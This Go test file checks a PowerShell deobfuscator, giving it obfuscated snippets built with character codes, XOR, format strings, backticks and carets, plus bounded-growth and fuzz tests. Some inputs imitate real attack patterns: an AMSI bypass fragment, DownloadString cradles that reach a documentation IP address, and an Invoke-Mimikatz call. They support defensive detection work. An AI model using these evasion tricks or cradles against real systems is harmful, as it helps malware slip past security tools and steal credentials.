package powershell

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// codes writes a text as the numbers of its characters.
func codes(s, sep, form string) string {
	var out []string
	for _, c := range []byte(s) {
		out = append(out, fmt.Sprintf(form, c))
	}
	return strings.Join(out, sep)
}

func xored(s string, key byte) string { return string(XORed([]byte(s), key)) }

func TestFold(t *testing.T) {
	const secret = "Write-Output 'hello there'"
	const quoted = "'Write-Output ''hello there'''"
	reversed := func(s string) string {
		r := []byte(s)
		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
			r[i], r[j] = r[j], r[i]
		}
		return string(r)
	}
	tests := map[string]struct{ in, want, tricks string }{
		"cast of a list":        {"[char[]](" + codes(secret, ",", "%d") + ") -join ''|iex", quoted + "|iex", "character codes, split and join"},
		"unary join":            {"iex(-join([char[]]@(" + codes(secret, ", ", "0x%02x") + ")))", "iex(" + quoted + ")", "character codes, split and join"},
		"sum of characters":     {"&([char]73+[char]69+[char]88+[char]0x20) $x", "&('IEX ') $x", "character codes, concatenation"},
		"loop":                  {"-join(73,69,88,73,69|%{[char]$_})", "'IEXIE'", "character codes, split and join"},
		"range":                 {"-join ((97..102+32+65..67) | ForEach-Object { [char][int]$_ })", "'abcdef ABC'", "character codes, split and join"},
		"split at letters":      {"('" + codes(secret, "k", "%d") + "'.Split('k')|%{[char][int]$_})-join''", quoted, "character codes, split and join"},
		"split operator":        {"-JOIN('" + codes(secret, "_", "%d") + "'-splIT '_'|FOREACH{([char]([int]$_))})", quoted, "character codes, split and join"},
		"split at several":      {"-join('73k69_88k46'-split'k'-split'_'|%{[char][int]$_})", "", ""},
		"split in a class":      {"-join('73k69_88k46'-split'[k_]'|%{[char][int]$_})", "'IEX.'", "character codes, split and join"},
		"hex codes":             {"-join('" + codes(secret, " ", "%x") + "'.Split(' ')|%{[char]([Convert]::ToInt16($_,16))})", quoted, "character codes, hex codes, split and join"},
		"hex prefix":            {"-join('49 45 58 20'.Split()|%{[char][byte]\"0x$_\"})", "'IEX '", "character codes, split and join, constant variables"},
		"xor":                   {"-join((" + codes(xored(secret, 0x35), ",", "%d") + ")|%{[char]($_ -bxor 0x35)})", quoted, "character codes, XOR, split and join"},
		"xor, key in a text":    {"-join((" + codes(xored(secret, 7), ",", "%d") + ")|%{[char]($_ -bXOR'0x07')})", quoted, "character codes, XOR, split and join"},
		"xor, key in variable":  {"$k=0x21;$d=@(" + codes(xored(secret, 0x21), ",", "%d") + ");iex(-join($d|%{[char]($_ -bxor $k)}))", "$k=0x21;$d=@(" + codes(xored(secret, 0x21), ",", "%d") + ");iex(" + quoted + ")", "character codes, XOR, split and join, constant variables"},
		"xor, key not known":    {"-join((" + codes(xored(secret, 0x5a), ",", "%d") + ")|%{[char]($_ -bxor $k)})", quoted, "character codes, XOR, split and join"},
		"format":                {`&("{1}{0}" -f 'X','IE') $a`, `&('IEX') $a`, "format operator"},
		"format in order":       {`IEX ('{0}{1}{2}'-f 'http','://','203.0.113.9')`, `IEX ('http://203.0.113.9')`, "format operator"},
		"format of a number":    {`"{0:N2} of {1}" -f $a, 'b'`, "", ""},
		"words put together":    {"[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils')", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "concatenation"},
		"unknown beginning":     {"$u + 'Down' + 'loadStr' + 'ing'", "$u + 'DownloadString'", "concatenation"},
		"member name":           {"$w.('Down'+'loadString').Invoke('ht'+'tp://203.0.113.9/a')", "$w.('DownloadString').Invoke('http://203.0.113.9/a')", "concatenation"},
		"replacements":          {"iex('WritXXe-OutpXXut YY'.Replace('XX','').replace('YY',([string][char]39)))", "iex('Write-Output ''')", "character codes, replacement"},
		"replace operator":      {"('Invo!e-Web!lient' -replace '!','k')", "('Invoke-Webklient')", "replacement"},
		"replacement of a char": {"('Write#Output#now').rePLACe(([chAr]35),'-')", "'Write-Output-now'", "character codes, replacement"},
		"reversed by index":     {"$s='" + reversed("Invoke-Thing now") + "';iex($s[-1..-($s.Length)] -join '')", "$s='" + reversed("Invoke-Thing now") + "';iex('Invoke-Thing now')", "reversal, split and join, constant variables"},
		"reversed in place":     {"$a='XEI olleh'.ToCharArray();[Array]::Reverse($a);$a -join ''", "$a='XEI olleh'.ToCharArray();[Array]::Reverse($a);'hello IEX'", "reversal, split and join, constant variables"},
		"right to left":         {"-join[regex]::Matches('XEI olleh','.','RightToLeft')", "'hello IEX'", "reversal, split and join"},
		"backticks":             {"I`E`X (N`ew-Ob`ject Net.WebClient)", "IEX (New-Object Net.WebClient)", "backticks"},
		"backticks in a string": {"$a.\"Get`Fi`e`LD\"('x'+'y')", "$a.'GetFieLD'('xy')", "concatenation, backticks"},
		"quoted in a help text": {"\"use `Get-Item`, `Put-Item` and `Cut-Item` for it\"", "", ""},
		"carets":                {`cmd /c p^o^w^e^r^shell -e^n^c QQ==`, `cmd /c powershell -enc QQ==`, "carets"},
		"picked from comspec":   {"&($env:ComSpec[4,24,25]-join'') $x", "&('Iex') $x", "split and join, picked characters"},
		"picked from pshome":    {"&($PSHOME[21]+$PSHOME[30]+'x') $x", "&('iex') $x", "concatenation, picked characters"},
		"picked from shellid":   {". ($ShellId[1]+$shellId[13]+'x') $x", ". ('iex') $x", "concatenation, picked characters"},
		"bytes of a text":       {"[Text.Encoding]::ASCII.GetString([byte[]](72,105,32,121,111,117))", "'Hi you'", "character codes"},
		"join of a type":        {"[String]::Join('',([char[]](73,69,88,73)))", "'IEXI'", "character codes, split and join"},
		"script in a string":    {`powershell -c "IEX ('Inv'+'oke-Mi'+'mika'+'tz')"`, `powershell -c "IEX ('Invoke-Mimikatz')"`, "concatenation"},
		"escaped quotes":        {`powershell -c "IEX (\"Inv\"+\"oke-Mi\"+\"mika\"+\"tz\")"`, `powershell -c "IEX ('Invoke-Mimikatz')"`, "concatenation"},
		"URL escapes":           {"iex([uri]::UnescapeDataString('%49%45%58 a')+'IE'+'XX'+'yy'+'zz')", "iex('IEX aIEXXyyzz')", "concatenation, URL escapes"},
		"two layers":            {"iex('iex (''ab''+''cd''+''ef''+''gh'')')", "iex('iex (''abcdefgh'')')", "concatenation"},

		"line ends":           {"$a = 'one' + [char]13 + [char]10 + 'two'", "", ""},
		"a long line broken":  {"$a = 'one two ' +\n 'three four ' +\n 'five'", "", ""},
		"a path":              {"Join-Path ($dir + '\\a') 'b'; $x = 'C:\\a' + '\\b'", "", ""},
		"regular expressions": {"$a -replace '^[a-z]+\\d`$','$1' -split ','", "", ""},
		"lists":               {"$ports = 21,22,23,25,80,443,8080,135,139,445,3389,5985,5986,1433,3306,5432,49152", "", ""},
		"a help text":         {"\"line`none`ttab `\"quoted`\" $name\"", "", ""},
		"broken lines":        {"Get-Item `\n -Path x `\n -Name y `\n | Out-Null", "", ""},
		"a loop over names":   {"'a','b','c' | % { Get-Thing $_ } ; 1..5 | % { $_ * 2 }", "", ""},
		"alias of characters": {"(65..90) | ForEach-Object { [char]$_ }", "", ""},
		"carets in a pattern": {`findstr /r "a^b c^d e^f g^h" x.txt`, "", ""},
		"empty":               {"", "", ""},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			r := Fold(tt.in)
			if diff := cmp.Diff(tt.want, r.Text); diff != "" {
				t.Error(diff)
			}
			if r.Text != "" && r.Tricks.String() != tt.tricks {
				t.Errorf("tricks %q, want %q", r.Tricks, tt.tricks)
			}
		})
	}
}

func TestArrays(t *testing.T) {
	data := make([]byte, 64)
	for i := range data {
		data[i] = byte(7 * i)
	}
	in := "[Byte[]] $b = " + codes(string(data), ",", "0x%02x")
	r := Fold(in)
	if len(r.Arrays) != 1 || string(r.Arrays[0].Data) != string(data) || r.Arrays[0].Offset != 14 {
		t.Errorf("%+v", r)
	}
}

// TestBounded gives Fold texts that would unfold to far more than they are.
func TestBounded(t *testing.T) {
	doubling := "$a0='xx'+'yy';"
	for i := range 60 {
		doubling += fmt.Sprintf("$a%d=$a%d+$a%d;", i+1, i, i)
	}
	for name, in := range map[string]string{
		"doubling":   doubling,
		"loops":      "1..60000|%{1..60000|%{1..60000|%{[char]$_}}}",
		"lengths":    "$b='" + strings.Repeat("x", 1<<20) + "';-join(1..60000|%{[char]$b.Length})",
		"brackets":   strings.Repeat("([char](", 100_000),
		"casts":      strings.Repeat("[char]", 100_000),
		"repetition": "[char]65*99999999999 + ('a'+'b')*2147483647",
		"format":     "'" + strings.Repeat("{0}", 50_000) + "' -f '" + strings.Repeat("y", 50_000) + "'",
		"replace":    "'" + strings.Repeat("a", 50_000) + "'.Replace('a','" + strings.Repeat("y", 50_000) + "')",
	} {
		if r := Fold(in); len(r.Text) > 64<<20 {
			t.Errorf("%s: %d bytes", name, len(r.Text))
		}
	}
	long := strings.Repeat("'some pieces'+", 50_000) + "'ie'+'x'+'yy'+'zz'"
	if r := Fold(long); r.Limited || !strings.HasSuffix(r.Text, "pieces"+"iexyyzz'") {
		t.Errorf("a long sum is not put together: %.50q limited %v", r.Text, r.Limited)
	}
}

func FuzzFold(f *testing.F) {
	f.Add("-join('49 45'.Split(' ')|%{[char]([Convert]::ToInt16($_,16) -bxor 3)})")
	f.Add("&(\"{1}{0}\" -f 'X','IE') $a.('Down'+'load')[-1..-3]")
	f.Add("$a=@(1,2);[Array]::Reverse($a);I`E`X p^o^w^er")
	f.Add("powershell -c \"IEX (\\\"a\\\"+\\\"b\\\")\" @'\n'@ <# #> ${a`b} 'a' -replace '(a)','$1'")
	f.Fuzz(func(t *testing.T, in string) {
		if r := Fold(in); len(r.Text) > 64*len(in)+(8<<20) {
			t.Errorf("%d bytes make %d", len(in), len(r.Text))
		}
	})
}

// BenchmarkFold folds a text that hides everything.
func BenchmarkFold(b *testing.B) {
	in := strings.Repeat("iex(-join(("+codes("Write-Output 'hello there'", ",", "%d")+")|%{[char]($_ -bxor 0x35)}));&('I'+'E'+'X') (\"{1}{0}\" -f 'X','IE')\n", 100)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		Fold(in)
	}
}

// BenchmarkOrdinary looks at a script that hides nothing.
func BenchmarkOrdinary(b *testing.B) {
	in := strings.Repeat("function Get-Thing($Path) { $items = Get-ChildItem -Path $Path -Recurse; foreach ($i in $items) { Write-Verbose \"see $i\" } }\n", 1000)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		Fold(in)
	}
}
